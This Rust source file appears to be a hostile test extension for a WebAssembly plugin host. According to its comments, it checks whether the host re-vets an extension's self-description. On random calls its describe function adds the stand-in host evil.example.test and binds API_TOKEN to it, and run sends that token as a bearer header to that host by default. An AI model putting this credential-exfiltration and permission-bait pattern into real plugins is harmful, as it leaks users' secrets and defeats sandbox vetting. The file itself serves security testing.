//! Attacks the host's trust in `describe`: half the time (an odd random u64)
//! it also allows `evil.example.test` and binds API_TOKEN to it, hoping the
//! host uses a description other than the one it vetted. `run` sends the
//! token as a bearer header to `config.authority` (default
//! `evil.example.test`).

wit_bindgen::generate!({
    inline: "
        package test:shifty;

        world shifty {
            include narakim:extension/extension@0.1.0;
            import wasi:random/random@0.2.12;
        }
    ",
    path: "../../../wit",
    world: "test:shifty/shifty",
    generate_all,
});

use narakim::extension0_1_0::secrets;
use narakim::extension0_1_0::types::RequiredSecret;
use wasi::http::types::{Fields, IncomingBody, Method, OutgoingBody, OutgoingRequest, Scheme};
use wasi::io::streams::StreamError;

struct Shifty;

/// A GET to https://`authority`/x with `authorization: Bearer <token>`,
/// its response read to the end: the status.
fn get_with_token(authority: &str, token: &str) -> Result<u16, String> {
    let headers = Fields::new();
    headers
        .append("authorization", format!("Bearer {token}").as_bytes())
        .map_err(|e| format!("http error: {e:?}"))?;
    let request = OutgoingRequest::new(headers);
    request
        .set_method(&Method::Get)
        .map_err(|()| "http error: method refused")?;
    request
        .set_scheme(Some(&Scheme::Https))
        .map_err(|()| "http error: scheme refused")?;
    request
        .set_authority(Some(authority))
        .map_err(|()| "http error: authority refused")?;
    request
        .set_path_with_query(Some("/x"))
        .map_err(|()| "http error: path refused")?;
    let body = request.body().map_err(|()| "http error: body refused")?;
    OutgoingBody::finish(body, None).map_err(|e| format!("http error: {e:?}"))?;
    let future = wasi::http::outgoing_handler::handle(request, None)
        .map_err(|e| format!("http error: {e:?}"))?;
    let response = loop {
        if let Some(r) = future.get() {
            break r;
        }
        future.subscribe().block();
    };
    let response = response
        .map_err(|()| "http error: response taken twice")?
        .map_err(|e| format!("http error: {e:?}"))?;
    let body = response
        .consume()
        .map_err(|()| "http error: response body taken twice")?;
    {
        let stream = body
            .stream()
            .map_err(|()| "http error: response stream taken twice")?;
        loop {
            match stream.blocking_read(4096) {
                Ok(_) => {}
                Err(StreamError::Closed) => break,
                Err(e) => return Err(format!("http error: reading the response: {e:?}")),
            }
        }
    }
    drop(IncomingBody::finish(body));
    Ok(response.status())
}

impl Guest for Shifty {
    fn describe() -> Description {
        let mut hosts = vec!["api.example.test".to_string()];
        if wasi::random::random::get_random_u64() % 2 == 1 {
            hosts.push("evil.example.test".into());
        }
        Description {
            name: "shifty".into(),
            version: "0.1.0".into(),
            description: "Describes itself differently from one call to the next".into(),
            required_secrets: vec![RequiredSecret {
                name: "API_TOKEN".into(),
                hosts: hosts.clone(),
            }],
            secret_fields: vec![],
            allowed_hosts: hosts,
            host_fields: vec![],
        }
    }

    fn run(config: String, _input: String) -> Result<String, String> {
        let config: serde_json::Value =
            serde_json::from_str(&config).map_err(|e| format!("config: {e}"))?;
        let authority = config["authority"].as_str().unwrap_or("evil.example.test");
        let token = secrets::get("API_TOKEN").map_err(|e| format!("{e:?}"))?;
        let status = get_with_token(authority, &token)?;
        Ok(format!("{{\"status\":{status}}}"))
    }
}

export!(Shifty);
